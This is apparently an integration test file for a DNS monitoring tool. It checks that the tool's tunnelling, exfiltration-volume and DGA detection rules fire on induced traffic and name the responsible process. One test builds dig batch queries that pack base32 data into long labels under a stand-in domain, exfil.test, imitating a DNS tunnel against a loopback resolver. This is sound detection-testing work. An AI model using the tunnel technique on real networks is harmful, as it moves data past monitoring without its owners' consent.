//! The security scenarios live, under the real BPF capture: `dnsdoc chaos --induce
//! tunnel|dga --verify` against a loopback dnsmasq must pass, the finding must name the
//! chaos process itself (its pid), and the baselines must stay quiet. Then a tunnel run
//! by another program (a shell loop of dig, TXT questions with long base32 labels) is
//! found by `dnsdoc doctor`, naming that program, not dnsdoc.

mod common;

use std::process::Stdio;

use common::chaos::{chaos, serial};
use common::*;
use serde_json::Value;

/// dnsmasq answers the baselines' cluster names and NXDOMAIN for everything under test.
const ZONE: &[&str] = &[
    "--local=/cluster.local/",
    "--local=/test/",
    "--host-record=kubernetes.default.svc.cluster.local,10.96.0.1",
    "--host-record=kube-dns.kube-system.svc.cluster.local,10.96.0.10",
];

#[test]
fn tunnel_is_found_naming_the_chaos_process_and_its_baseline_is_quiet() {
    if !require_bpf("tunnel_is_found_naming_the_chaos_process_and_its_baseline_is_quiet") {
        return;
    }
    let _serial = serial();
    let cg = TestCgroup::new("sec-tunnel");
    let port = free_port();
    let _dnsmasq = start_dnsmasq_with(
        &cg.path,
        port,
        &Dnsmasq {
            zone: ZONE,
            ..Dnsmasq::default()
        },
    );
    let r = chaos(
        &cg.path,
        port,
        &["--induce", "tunnel", "--duration", "4s", "--verify"],
    );
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let me = format!("domain exfil.test by dnsdoc (pid {})", r.pid);
    for rule in ["dns_tunnel_suspected", "dns_exfil_volume"] {
        assert_eq!(r.check(rule)["pass"], true, "{rule}: {}", r.check(rule));
        let f = r.findings(rule);
        assert!(
            f.iter().any(|f| f["subject"] == me.as_str()),
            "{rule} must name the chaos process ({me}): {f:?}"
        );
    }
    // The evidence gives the bytes moved, as the capture counted them.
    let t = r.findings("dns_tunnel_suspected")[0];
    let bytes = t["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["metric"] == "unique_subdomain_bytes")
        .and_then(|e| e["value"].as_f64())
        .unwrap();
    let sent = r.report["load"]["sent"].as_f64().unwrap();
    // Each question carries 8 + 1 + 56 + 1 + 56 + 2 = 124 characters before exfil.test.
    assert!(
        bytes >= 0.95 * sent * 124.0 && bytes <= sent * 124.0,
        "{bytes} bytes for {sent} questions"
    );
    let row = r.report["verify"]["snapshot"]["domains"]["by_domain"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["domain"] == "exfil.test")
        .expect("an exfil.test row")
        .clone();
    assert_eq!(row["txt_null_ratio"], 1.0, "{row}");
    assert!(row["subdomain_entropy"].as_f64().unwrap() > 4.0, "{row}");
    assert!(row["answer_bytes_in"].as_u64().unwrap() > 0, "{row}");

    let b = chaos(
        &cg.path,
        port,
        &[
            "--induce",
            "tunnel",
            "--duration",
            "3s",
            "--verify",
            "--baseline",
        ],
    );
    assert_eq!(b.code, Some(0), "{}", b.stderr);
    for rule in ["dns_tunnel_suspected", "dns_exfil_volume"] {
        assert_eq!(b.check(rule)["fired"], false, "{rule}");
        assert_eq!(b.check(rule)["pass"], true, "{rule}");
    }
}

#[test]
fn dga_is_found_naming_the_chaos_process_and_its_baseline_is_quiet() {
    if !require_bpf("dga_is_found_naming_the_chaos_process_and_its_baseline_is_quiet") {
        return;
    }
    let _serial = serial();
    let cg = TestCgroup::new("sec-dga");
    let port = free_port();
    let _dnsmasq = start_dnsmasq_with(
        &cg.path,
        port,
        &Dnsmasq {
            zone: ZONE,
            ..Dnsmasq::default()
        },
    );
    let r = chaos(
        &cg.path,
        port,
        &["--induce", "dga", "--duration", "4s", "--verify"],
    );
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(r.check("dns_dga_suspected")["pass"], true);
    let me = format!("suffix test by dnsdoc (pid {})", r.pid);
    let f = r.findings("dns_dga_suspected");
    assert!(
        f.iter().any(|f| f["subject"] == me.as_str()),
        "must name the chaos process ({me}): {f:?}"
    );
    // Every generated name is its own registered domain and none exists.
    let sent = r.report["load"]["sent"].as_u64().unwrap();
    let row = r.report["verify"]["snapshot"]["domains"]["by_suffix"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["suffix"] == "test")
        .expect("a test row")
        .clone();
    let domains = row["domains"].as_u64().unwrap();
    assert!(domains + 2 >= sent && domains <= sent, "{row} for {sent}");
    assert_eq!(row["nxdomain_domains"], row["domains"], "{row}");

    let b = chaos(
        &cg.path,
        port,
        &[
            "--induce",
            "dga",
            "--duration",
            "3s",
            "--verify",
            "--baseline",
        ],
    );
    assert_eq!(b.code, Some(0), "{}", b.stderr);
    assert_eq!(b.check("dns_dga_suspected")["fired"], false);
    assert_eq!(b.check("dns_dga_suspected")["pass"], true);
}

#[test]
fn a_tunnel_run_by_another_program_is_found_naming_that_program() {
    if !require_bpf("a_tunnel_run_by_another_program_is_found_naming_that_program") {
        return;
    }
    let _serial = serial();
    let cg = TestCgroup::new("sec-dig");
    let port = free_port();
    let _dnsmasq = start_dnsmasq_with(
        &cg.path,
        port,
        &Dnsmasq {
            zone: ZONE,
            ..Dnsmasq::default()
        },
    );
    // 150 TXT questions in one dig run (a batch file): base32 of random bytes in two
    // long labels each, like a tunnel client.
    let dir = TempDir::new("sec-dig");
    let batch = dir.path().join("batch");
    let mut lines = String::new();
    let mut x: u64 = 7;
    for i in 0..150 {
        let mut bytes = Vec::new();
        for _ in 0..70 {
            x = x
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            bytes.push((x >> 33) as u8);
        }
        let b32 = data_encoding::BASE32_NOPAD
            .encode(&bytes)
            .to_ascii_lowercase();
        let (a, b) = b32.split_at(56);
        lines.push_str(&format!(
            "{i:04x}.{a}.{b}.t.exfil.test TXT @127.0.0.1 -p {port} +tries=1 +time=2\n"
        ));
    }
    std::fs::write(&batch, lines).unwrap();
    let snap = dir.path().join("s.json");
    let mut cmd = command_in_cgroup(&cg.path, env!("CARGO_BIN_EXE_dnsdoc"), &[]);
    cmd.args([
        "watch",
        "--duration",
        "60s",
        "--no-progress",
        "--format",
        "json",
    ])
    .args(["--port", &port.to_string(), "--cgroup"])
    .arg(&cg.path)
    .arg("-o")
    .arg(&snap);
    let watch = spawn_attached(cmd);
    let mut dig = command_in_cgroup(&cg.path, "dig", &[])
        .arg("-f")
        .arg(&batch)
        .stdout(Stdio::null())
        .spawn()
        .expect("dig");
    let dig_pid = dig.id();
    assert!(dig.wait().unwrap().success());
    let (code, _, stderr) = watch.interrupt();
    assert_eq!(code, Some(0), "{stderr:?}");
    let o = run_dnsdoc(&[
        "doctor",
        "--snapshot",
        snap.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let report: Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {o:?}"));
    let found: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "dns_tunnel_suspected")
        .collect();
    assert_eq!(found.len(), 1, "{}", report["findings"]);
    let subject = found[0]["subject"].as_str().unwrap();
    // The program is named by its pid (and its name: dig, or the thread name the
    // kernel recorded when it exited before /proc was read).
    assert!(
        subject.starts_with("domain exfil.test by ")
            && subject.ends_with(&format!("(pid {dig_pid})")),
        "{subject}"
    );
    assert_eq!(found[0]["value"], 150.0, "{}", found[0]);
}
